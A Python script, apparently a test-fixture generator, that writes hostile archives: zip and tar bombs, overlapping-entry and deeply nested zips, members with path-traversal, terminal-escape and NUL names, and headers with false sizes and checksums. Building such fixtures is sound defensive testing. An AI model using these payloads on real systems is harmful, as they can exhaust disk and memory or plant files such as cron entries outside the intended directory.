#!/usr/bin/env python3
"""Writes archives that try to harm who reads them. Nothing of it is stored in the tree.

usage: archives.py WHAT > FILE

Each WHAT is a function below; its docstring, or that of what it calls, says what comes out.
"""
import bz2
import gzip
import io
import lzma
import struct
import sys
import tarfile
import zipfile
import zlib

MIB = 1024 * 1024
OUT = sys.stdout.buffer


def zipped(members, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', method) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, (2021, 3, 5, 12, 0, 0))
            info.compress_type = method
            z.writestr(info, data)
    return out.getvalue()


def crowd():
    """A zip with 10,000 members: traversal, NUL, escape sequences, names of 4 KB, twins."""
    names = ['../../../etc/cron.d/x{}', '/abs/{}', 'C:\\..\\..\\x{}', 'a\x1b]0;owned\x07{}\x1b[31m',
             'nul~{}.log', 'n' * 4090 + '{}', 'twin', '\u202egol.{}', 'a/./b//c/../{}', 'con{}:$DATA']
    data = zipped([(names[i % 10].format(i), f'row {i}\n'.encode()) for i in range(10000)])
    OUT.write(data.replace(b'nul~', b'nul\0'))


ZEROS = b'\0' * (64 * MIB)


def bomb():
    """A zip with one member of 2.5 GiB of zeros, 1,000:1, and a file behind it: one packed piece is repeated."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = packer.compress(ZEROS) + packer.flush(zlib.Z_FULL_FLUSH)
    packed, crc = piece * 40 + b'\3\0', 0
    for _ in range(40):
        crc = zlib.crc32(ZEROS, crc)
    members = [(b'bomb.log', packed, 8, crc, 40 * len(ZEROS)), (b'after.log', b'after\n', 0, zlib.crc32(b'after\n'), 6)]
    body, directory = b'', b''
    for name, data, method, crc, size in members:
        common = struct.pack('<HHHHHIIIHH', 20, 0, method, 0, 0x5265, crc, len(data), size, len(name), 0)
        directory += b'PK\1\2\x14\0' + common + struct.pack('<HHHII', 0, 0, 0, 0, len(body)) + name
        body += b'PK\3\4' + common + name + data
    OUT.write(body + directory + struct.pack('<4sHHHHIIH', b'PK\5\6', 0, 0, 2, 2, len(directory), len(body), 0))


def packed_bomb(pack):
    """A packed tar of a member of 4 GiB of zeros: one packed stream is repeated behind its header."""
    info = tarfile.TarInfo('bomb.log')
    info.size = 4 * 1024 * MIB
    OUT.write(pack(info.tobuf(tarfile.GNU_FORMAT)) + pack(ZEROS) * 64)


def bomb_gz():
    packed_bomb(lambda data: gzip.compress(data, 9, mtime=0))


def bomb_bz2():
    packed_bomb(bz2.compress)


def bomb_xz():
    packed_bomb(lambda data: lzma.compress(data, lzma.FORMAT_XZ, lzma.CHECK_CRC32, preset=1))


def nest():
    """A zip within a zip within ... twenty times."""
    data = b'core\n'
    for i in range(20):
        data = zipped([(f'{i}.zip' if i else 'core.log', data)])
    OUT.write(data)


def fan():
    """Sixteen zips in each of sixteen zips in ..., eight deep: four thousand million files."""
    data = zipped([(f'{i}.txt', b'x' * 100) for i in range(16)])
    for _ in range(7):
        data = zipped([(f'{i}.zip', data) for i in range(16)])
    OUT.write(data)


def overlap():
    """A zip whose directory names one packed member 20,000 times, 10 MiB each time."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(b'\0' * (10 * MIB)) + packer.flush()
    crc = zlib.crc32(b'\0' * (10 * MIB))
    name = b'again.dat'
    common = struct.pack('<HHHHHIIIHH', 20, 0, 8, 0, 0x5265, crc, len(packed), 10 * MIB, len(name), 0)
    local = b'PK\3\4' + common + name + packed
    entry = b'PK\1\2' + struct.pack('<H', 20) + common + struct.pack('<HHHII', 0, 0, 0, 0, 0) + name
    n = 20000
    OUT.write(local + entry * n + struct.pack('<4sHHHHIIH', b'PK\5\6', 0, 0, n, n, len(entry) * n, len(local), 0))


def lies():
    """Members whose sizes, checksums and places are not what is told, then an honest one."""
    data = bytearray(zipped([(f'{i}.log', b'row\n' * 100) for i in range(4)] + [('honest.log', b'honest\n')]))
    at = [i for i in range(len(data)) if data[i:i + 4] == b'PK\1\2']
    struct.pack_into('<I', data, at[0] + 24, 0x7fffffff)  # unpacked size
    struct.pack_into('<I', data, at[1] + 20, 0x7fffffff)  # packed size
    struct.pack_into('<I', data, at[2] + 16, 0)           # checksum
    struct.pack_into('<I', data, at[3] + 42, 0x7fffffff)  # place
    OUT.write(data)


def gz_quine():
    """gzip within gzip, thirty times, around a tar."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode='w') as t:
        info = tarfile.TarInfo('a.log')
        info.size = 4
        t.addfile(info, io.BytesIO(b'row\n'))
    data = out.getvalue()
    for _ in range(30):
        data = gzip.compress(data, mtime=0)
    OUT.write(data)


if __name__ == '__main__':
    globals()[sys.argv[1]]()
